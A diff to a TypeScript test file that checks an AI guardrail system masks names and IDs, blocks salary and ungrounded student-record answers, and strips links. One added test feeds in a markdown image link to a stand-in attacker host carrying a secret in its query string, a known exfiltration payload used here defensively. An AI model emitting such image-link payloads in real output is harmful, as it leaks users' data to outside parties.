@@ -8,10 +8,9 @@ import { compile } from "../../src/governance/compile.ts";
 import { transitionOnApply, type LifecycleSettings } from "../../src/governance/lifecycle.ts";
 import { manifestWarnings } from "../../src/governance/manifest-warnings.ts";
 import { parseManifest } from "../../src/governance/parse-manifest.ts";
-import type { DeclaredGuardrailSpec, UseCaseSpec } from "../../src/governance/schemas.ts";
+import type { GuardrailManifestSpec, UseCaseSpec } from "../../src/governance/schemas.ts";
 import { checkGuardrail, guardrailWarnings } from "../../src/guardrails/check-guardrail.ts";
 import { compileGuardrail } from "../../src/guardrails/compile-guardrail.ts";
-import { effectiveGuardrail } from "../../src/governance/effective-guardrail.ts";
 
 const root = join(import.meta.dirname, "../../examples/campus");
 const manifests = globSync("*.yaml", { cwd: root })
@@ -75,13 +74,13 @@ const calm = { whole: () => 0, windows: () => 0, thresholds: { LOW: 1, MEDIUM: 1
 test("The campus guardrails promise nothing that this version does not do, and hr keeps single people out of reach", () => {
   for (const { kind, name, spec } of manifests) {
     if (kind !== "Guardrail") continue;
-    const effective = effectiveGuardrail(spec as unknown as DeclaredGuardrailSpec);
+    const effective = spec as unknown as GuardrailManifestSpec;
     assert.deepEqual(checkGuardrail(effective), [], name);
     assert.deepEqual(guardrailWarnings(effective), [], name);
     assert.ok(compileGuardrail(effective, calm));
   }
   const hr = manifests.find(({ kind, name }) => kind === "Guardrail" && name === "hr");
-  const guardrail = compileGuardrail(effectiveGuardrail(hr?.spec as unknown as DeclaredGuardrailSpec), calm);
+  const guardrail = compileGuardrail(hr?.spec as unknown as GuardrailManifestSpec, calm);
   const inspect = (text: string): { outcome: string; text: string } => {
     let seen = text;
     const part: TextPart = { surface: "user", text, replace: (masked) => (seen = masked) };
@@ -95,4 +94,47 @@ test("The campus guardrails promise nothing that this version does not do, and h
   assert.ok(masked.text.includes("0f3a"), masked.text);
   assert.equal(inspect("Is 123-45-6789 on file?").outcome, "blocked");
   assert.equal(inspect("What is the individual\u200b  Salary of Dana?").outcome, "blocked");
+});
+
+test("The campus guardrails do what their README shows", () => {
+  const compiled = (wanted: string) =>
+    compileGuardrail(
+      manifests.find(({ kind, name }) => kind === "Guardrail" && name === wanted)?.spec as unknown as GuardrailManifestSpec,
+      calm,
+    );
+  const vault = { tokenOf: (type: string) => `{${type}:4f7k2m9x0q1z}`, valueOf: () => "Maria Gonzalez" };
+  const inspect = (name: string, side: "input" | "output", text: string, sources: readonly string[] = []) => {
+    let seen = text;
+    const part: TextPart = {
+      surface: side === "input" ? "user" : "assistant",
+      text,
+      replace: (masked) => (seen = masked),
+    };
+    const context = { hash: () => "0f3a", vault, prompt: { system: [], sources, query: "" } };
+    const guardrail = compiled(name);
+    const { outcome, findings } =
+      side === "input" ? guardrail.inspectInput([part], context) : guardrail.inspectOutput([part], context);
+    return { outcome, text: seen, types: findings.map(({ type }) => type) };
+  };
+  const asked = inspect("hr", "input", "Which trainings did Maria Gonzalez (E123456) attend?");
+  assert.equal(asked.text, "Which trainings did {NAME:4f7k2m9x0q1z} ({employee-id:0f3a}) attend?");
+  assert.equal(inspect("hr", "output", "{NAME:4f7k2m9x0q1z} attended two.").text, "Maria Gonzalez attended two.");
+  assert.deepEqual(inspect("hr", "input", "How much does Lee earn?").types, ["individual-salaries"]);
+  assert.equal(inspect("hr", "output", "Two. ![x](https://evil.example/p.png?d=secret)").text, "Two. x");
+  for (const text of [
+    "Which departments asked for safety trainings in spring?",
+    "Draft a note to staff about the new trainings, and thank everybody who took part.",
+    "How do we handle a complaint about harassment? Which training fits?",
+    "What did the trainings cost us last year, by department?",
+  ]) {
+    assert.equal(inspect("hr", "input", text).outcome, "clean", text);
+    assert.equal(inspect("hr", "output", text).outcome, "clean", text);
+  }
+  const named = inspect("research", "input", "Did Maria Gonzalez cite the Larkspur preprint?");
+  assert.equal(named.text, "Did Maria Gonzalez cite the {unpublished}?");
+  assert.ok(named.types.includes("NAME"));
+  const record = ["The student took Calculus in autumn and passed with a B."];
+  assert.equal(inspect("student-records", "output", "The student passed Calculus with a B.", record).outcome, "clean");
+  assert.equal(inspect("student-records", "output", "The student failed Physics twice.", record).outcome, "blocked");
+  assert.equal(inspect("student-records", "output", "Kestrel 7731.").outcome, "blocked");
 });
